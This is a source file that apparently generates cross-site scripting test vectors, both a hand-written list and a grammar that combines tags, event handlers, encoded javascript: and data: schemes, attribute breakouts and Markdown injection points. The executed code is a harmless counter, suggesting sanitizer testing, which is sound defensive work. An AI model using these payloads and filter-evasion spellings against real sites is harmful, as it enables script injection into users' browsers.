// Ways to run something in a reader's browser: our own, one by one, and those that a grammar of elements, handlers, signs
// between them and spellings makes of them.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";

const X = "window.__ran=(window.__ran||0)+1";

/** Ways in, by kind: elements, handlers, addresses, breaks out of attributes, comments and raw text, names that shadow the page's. */
export const OWN = [
  `<script>${X}</script>`, `<SCRIPT/x>${X}</SCRIPT>`, `<script src=data:text/javascript,${X}></script>`, `<svg><script>${X}</script></svg>`,
  `<img src=x onerror=${X}>`, `<img/src=x/onerror=${X}>`, `<img src=x onerror="${X}"//`, `<svg onload=${X}>`, `<svg/onload=${X}>`,
  `<body onload=${X}>`, `<details open ontoggle=${X}>`, `<input autofocus onfocus=${X}>`, `<video><source onerror=${X}>`, `<marquee onstart=${X}>`,
  `<iframe src="javascript:parent.${X}"></iframe>`, `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`, `<object data="javascript:${X}">`,
  `<embed src="javascript:${X}">`, `<a href="javascript:${X}" id=hit>x</a>`, `<form action="javascript:${X}"><button id=hit>x</button></form>`,
  `<math><a xlink:href="javascript:${X}" id=hit>x</a></math>`, `<base href="javascript:/a/-${X}//">`, `<meta http-equiv=refresh content="0;url=javascript:${X}">`,
  `<link rel=stylesheet href="javascript:${X}">`, `<style>@import 'javascript:${X}';</style>`, `<style><img src=x onerror=${X}></style>`,
  `"><script>${X}</script>`, `'><script>${X}</script>`, `" onmouseover="${X}" autofocus onfocus="${X}" x="`, `' onfocus='${X}' autofocus x='`,
  `</title><script>${X}</script>`, `</script><script>${X}</script>`, `</textarea><script>${X}</script>`, `</pre></code><script>${X}</script>`,
  `--><script>${X}</script>`, `]]><script>${X}</script>`, `<!--><script>${X}</script>-->`, `<![CDATA[<script>${X}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
  `<svg><style><img src=x onerror=${X}></style></svg>`, `<template><script>${X}</script></template>`, `<p id="</p><img src=x onerror=${X}>">`,
  `[x](javascript:${X})`, `[x](<javascript:${X}>)`, `[x](JaVaScRiPt:${X})`, `[x](java&#x0A;script:${X})`, `[x](&#106;avascript:${X})`, `[x](\u0001javascript:${X})`,
  `[x](data:text/html,<script>${X}</script>)`, `[x](vbscript:${X})`, `![x](javascript:${X})`, `![x](x "\\" onerror=${X} x=\\"")`, `![x" onerror="${X}](x)`,
  `<javascript:${X}>`, `[a]: javascript:${X}\n\n[a]`, `[x]( javascript:${X} "t")`, `## x {onmouseover=${X}}`, `## x {#y onmouseover=${X} .z}`,
  "```\"><script>" + X + "</script>\nx\n```", "```js\" onmouseover=\"" + X + "\nx\n```", `$\\href{javascript:${X}}{x}$`, `$\\text{<img src=x onerror=${X}>}$`,
  `[^a" onmouseover="${X}]: x\n\ny[^a" onmouseover="${X}]`, `[@x" onmouseover="${X}]`, `{{ "<script>" | safe }}{% raw %}<script>${X}</script>`, `<a name=answer id=answer>`, `<form id=cite><input name=attributes>`,
  `\u2028<script>${X}</script>`, `\ufeff<script>${X}</script>`, `＜script＞${X}＜/script＞`, `<scr\u0000ipt>${X}</scr\u0000ipt>`, `<img src="x\`onerror=${X}">`, `<img src=\`x\` onerror=${X}>`,
];

/** Elements with a handler that a browser calls without being asked, or soon. */
const HANDLERS = [
  ["img", "src=x", "onerror"], ["svg", "", "onload"], ["body", "", "onload"], ["body", "", "onpageshow"], ["body", "", "onfocus"], ["details", "open", "ontoggle"], ["input", "autofocus", "onfocus"], ["textarea", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"], ["button", "autofocus", "onfocus"], ["a", "autofocus tabindex=1 href=#", "onfocus"], ["video", "src=x", "onerror"], ["audio", "src=x", "onerror"], ["video", "><source", "onerror"], ["iframe", "", "onload"],
  ["object", "data=x", "onerror"], ["embed", "src=x", "onerror"], ["link", "rel=stylesheet href=x", "onerror"], ["style", "", "onload"], ["script", "src=x", "onerror"], ["marquee", "", "onstart"], ["p", "style=animation-name:x", "onanimationstart"],
  ["xss", "contenteditable autofocus", "onfocus"], ["math", "", "onmouseover"], ["form", "", "onfocusin"], ["image", "src=x", "onerror"], ["svg", "><animate attributeName=x dur=1s", "onbegin"], ["svg", "><set attributeName=x", "onbegin"], ["kbd", "", "onmouseover"], ["sub", "", "onmouseover"], ["summary", "", "onmouseover"], ["br", "", "onmouseover"],
];
/** What may stand between the name of an element and what follows. */
const BETWEEN = [" ", "/", "\n", "\t", "\f", "\r", " / ", "//", "\u0000", "\v", "\u00a0", "/x=\"y\"/", " x='>' ", "\n\n"];
/** How a handler's text is written. */
const WRITTEN = [(x) => `=${x}`, (x) => `="${x}"`, (x) => `='${x}'`, (x) => `=\`${x}\``, (x) => ` = "${x}"`, (x) => `\n=\n"${x}"`, (x) => `="&#x77;${x.slice(1)}"`, (x) => `="javascript:${x}"`];
/** What a vector breaks out of. */
const BEFORE = ["", "\">", "'>", "-->", "</title>", "</script>", "</textarea>", "</style>", "</noscript>", "]]>", "<!--><", "`", "\">\n\n", "<b ", "<br\n", "\\\""];
/** Schemes as browsers read them, however they are spelt. */
const SCHEMES = [
  "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "\u0001javascript:", " javascript:", "\u001fjavascript:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "java&Tab;script:", "java&NewLine;script:",
  "%6aavascript:", "javascript%3a", "\\javascript:", "javascript\\:", "view-source:javascript:", "feed:javascript:", "vbscript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=>", "DATA:text/html,", "blob:", "file:///", "jar:javascript:", "about:blank#", "//javascript:", "https:javascript:", "\ufeffjavascript:", "\u00a0javascript:", "javascript\u200b:",
];
/** Where Markdown and HTML take an address. */
const PLACES = [
  (u) => `[x](${u})`, (u) => `[x](<${u}>)`, (u) => `![x](${u})`, (u) => `<${u}>`, (u) => `[x]: ${u}\n\n[x]`, (u) => `[x][y]\n\n[y]: <${u}>`, (u) => `[x](${u} "t")`, (u) => `[![x](y.svg)](${u})`, (u) => `<a href="${u}" id=hit>x</a>`, (u) => `<a href='${u}' id=hit>x</a>`, (u) => `<a href=${u} id=hit>x</a>`,
  (u) => `<form action="${u}"><button id=hit>x</button></form>`, (u) => `<button formaction="${u}" id=hit>x</button>`, (u) => `<iframe src="${u}">`, (u) => `<object data="${u}">`, (u) => `<embed src="${u}">`, (u) => `<svg><a xlink:href="${u}" id=hit><text>x</text></a></svg>`, (u) => `<svg><use href="${u}"/></svg>`, (u) => `<math href="${u}" id=hit>x</math>`,
  (u) => `<base href="${u}">`, (u) => `<meta http-equiv=refresh content="0;url=${u}">`, (u) => `<link rel=stylesheet href="${u}">`, (u) => `<img src="${u}">`, (u) => `<img srcset="${u} 1x">`, (u) => `<video poster="${u}">`, (u) => `<blockquote cite="${u}">x</blockquote>`, (u) => `<svg><animate attributeName=href to="${u}"></svg>`, (u) => `<svg><set attributeName=href to="${u}"></svg>`, (u) => `$\\href{${u}}{x}$`, (u) => `https://a.org/"${u}`,
];
/** Places in Markdown that are written as attributes. */
const MARKUP = [(x) => `## x {${x}}`, (x) => `\`\`\`js {${x}}\ny\n\`\`\``, (x) => `[x](y "${x}")`, (x) => `![${x}](y)`, (x) => `[${x}]: y\n\n[x][${x}]`, (x) => `[^${x}]: y\n\nz[^${x}]`, (x) => `- [ ] ${x}`, (x) => `| ${x} |\n|---|\n| ${x} |`, (x) => `> [!${x}]\n> y`, (x) => `[@${x}]`, (x) => `[@{${x}}]`, (x) => `$${x}$`, (x) => `$\\text{${x}}$`, (x) => `::: ${x}\ny\n:::`, (x) => `[y]{${x}}`, (x) => `\`y\`{${x}}`, (x) => `<${x}@a.org>`];

/** What the grammar makes, each once: every element with every sign, spelling and way out somewhere, every scheme in every place. */
export function made() {
  const out = new Set();
  let turn = 0;
  const next = (list) => list[turn++ % list.length];
  for (const [tag, attributes, event] of HANDLERS) {
    for (const between of BETWEEN) {
      for (const written of WRITTEN) {
        // Counts of different size turn against each other, so that all pairs come together.
        const name = turn % 3 ? tag : tag.toUpperCase();
        out.add(`${next(BEFORE)}<${name}${between}${attributes}${between}${turn % 5 ? event : event.replace("on", "oN")}${written(X)}${turn % 2 ? ">" : ""}`);
      }
    }
  }
  for (const scheme of SCHEMES) for (const place of PLACES) out.add(place(`${scheme}${X}`));
  for (const inner of [...BEFORE.map((b) => `${b}<img src=x onerror=${X}>`), `onmouseover=${X}`, `" onmouseover="${X}" x="`, `' onfocus='${X}' autofocus x='`, `#a onclick=${X}`, `.a style=x:expression(${X})`, `x=y" onfocus=${X} autofocus`]) for (const place of MARKUP) out.add(place(inner));
  return [...out];
}

/** Vectors of a folder of lists: `*.txt` with one a line, `*.json` with an array of texts; each once. */
export function lists(folder) {
  const read = (name) => {
    const text = readFileSync(join(folder, name), "utf8");
    return name.endsWith(".json") ? JSON.parse(text) : name.endsWith(".txt") ? text.split(/\r?\n/) : [];
  };
  return [...new Set(readdirSync(folder).sort().flatMap(read))].filter((vector) => vector.trim() && vector.length <= 8_000);
}
